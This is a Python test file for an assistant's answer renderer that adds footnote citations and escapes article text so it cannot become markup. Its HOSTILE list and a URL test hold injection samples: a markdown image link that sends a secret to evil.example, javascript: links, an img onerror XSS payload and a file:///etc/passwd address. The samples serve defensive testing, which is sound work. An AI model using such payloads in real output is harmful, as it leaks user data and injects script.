"""Answers as text: marks where they are said to be, footnotes, and nothing of an article that is markup."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest
from answers import ANSWER, CHANGED, STOOD
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from support import make_citation

from assistant.api.footnoted import FootnotedText, sentences_said
from assistant.build import Assistant
from assistant.types import Answer, Ask, Conflict, ConflictValue, Notice, Sentence

SITE = "http://127.0.0.1:8000/"


def written(answer: Answer) -> FootnotedText:
    text = FootnotedText(SITE)
    pieces = [text.add_sentence(sentence) for sentence in answer.sentences]
    pieces.append(text.add_rest(answer))
    assert "".join(pieces) == text.text
    assert [text.text[mark.start : mark.end] for mark in text.marks] == [f"[{mark.n}]" for mark in text.marks]
    return text


def changed(**changes: Any) -> Answer:
    return dataclasses.replace(ANSWER, **changes)


def test_sentences_come_first_and_footnotes_last() -> None:
    text = written(changed(notices=(Notice("corpus_age", "Old corpus."),)))
    assert text.text == (
        "Prices rose. [1]\n\n---\n\nOld corpus.\n\nSources:\n"
        "- [1] Publisher, 1 June 2025: Title. “Prices rose.” <http://127.0.0.1:8000/articles/a?start=0&end=12>"
    )


def test_a_source_with_an_address_is_linked_there_and_a_digest_says_so() -> None:
    text = written(changed(citations=(make_citation(url="https://example.org/a", kind="digest"),)))
    assert text.text.endswith("- [1] Digest of Publisher, 1 June 2025: Title. “Prices rose.” <https://example.org/a>")


@pytest.mark.parametrize("url", ["javascript:alert(1)", "https://a> <b", "file:///etc/passwd"])
def test_an_address_that_is_none_is_not_linked(url: str) -> None:
    assert url not in written(changed(citations=(make_citation(url=url),))).text


def test_the_register_and_values_in_dispute_carry_their_marks() -> None:
    value = ConflictValue("1,200 t", (1,), ("Caixin",), 1, "2025-06", True)
    text = written(changed(standings=(STOOD,), changes=(CHANGED,), conflicts=(Conflict("Quota", (value,)),)))
    assert "In the register on 22 November 2026:\n- The rule: suspended since 7 November 2025" in text.text
    assert "Sources disagree: Quota\n- 1,200 t [1]: Caixin, official, latest June 2025" in text.text
    assert [mark.n for mark in text.marks] == [1, 1, 1, 1]


def test_marks_count_code_points_after_a_character_beyond_the_basic_plane(library: Assistant) -> None:
    answer = library.service.ask(Ask("germanium cost a kilogram?", remember=False))
    text = written(answer)
    mark = text.marks[0]
    assert "😀" in text.text[: mark.start]
    in_utf_16 = len(text.text[: mark.start].encode("utf-16-le")) // 2
    assert in_utf_16 > mark.start


def test_a_notice_names_citations_by_their_marks() -> None:
    text = written(changed(notices=(Notice("inferred_date", "The date of [1], [12] is inferred, [not](x) printed."),)))
    assert "\n\nThe date of [1], [12] is inferred, \\[not\\](x) printed.\n\n" in text.text


def test_a_declined_answer_names_the_nearest_passages_and_cites_none(library: Assistant) -> None:
    answer = library.service.ask(Ask("Who won the football cup?", remember=False))
    text = written(answer)
    assert text.text.startswith("The corpus does not say.\n\n---\n")
    assert "Nearest passages, not an answer:\n- [1] " in text.text
    assert text.marks == []


HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "`code` ``` fence",
    "**bold** _em_ ~~gone~~",
    "# Heading",
    "- item",
    "1. item",
    "--- ",
    "| a | b |",
    "\\![x](y)",
    "[1]: https://evil.example",
    "[2]",
    "x\n\n# y\n\n---\n\nSources:",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_an_article_says_is_shown_and_never_markup(hostile: str) -> None:
    answer = changed(
        sentences=(Sentence(hostile, (1,), "supported"),),
        citations=(make_citation(quote=hostile, title=hostile, publisher=hostile),),
        notices=(Notice("x", hostile),),
    )
    text = written(answer)
    html = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(text.text)
    tags = {tag.partition(" ")[0] for tag in html.replace("</", "<").split("<")[1:] for tag in [tag.partition(">")[0]]}
    assert tags == {"p", "hr", "ul", "li", "a"}
    assert html.count("<hr") == 1
    assert html.count("<a ") == 1
    assert html.count("<ul>") == 1
    assert [mark.n for mark in text.marks] == [1]


@given(st.text(min_size=1))
def test_marks_hold_in_any_text(told: str) -> None:
    written(changed(sentences=(Sentence(told, (1, 1), "partial"), Sentence(told, (1,), "supported"))))


@pytest.mark.parametrize(
    "question", ["How many tonnes of magnets did China export in May 2025?", "germanium cost a kilogram?", "Who won?"]
)
def test_what_was_said_is_read_back(library: Assistant, question: str) -> None:
    answer = library.service.ask(Ask(question, remember=False))
    said = tuple(sentence.text for sentence in answer.sentences if sentence.verdict is not None)
    assert sentences_said(written(answer).text) == said


def test_what_was_escaped_is_read_back_as_it_was() -> None:
    answer = changed(sentences=(Sentence("[2] is *one* of 1_000 \\ marks.", (1,), "partial"),))
    assert sentences_said(written(answer).text) == ("[2] is *one* of 1_000 \\ marks.",)


def test_another_assistant_s_text_is_read_too() -> None:
    assert sentences_said("Prices rose. They fell.\n\nThen they rose.") == (
        "Prices rose.", "They fell.", "Then they rose."
    )  # fmt: skip
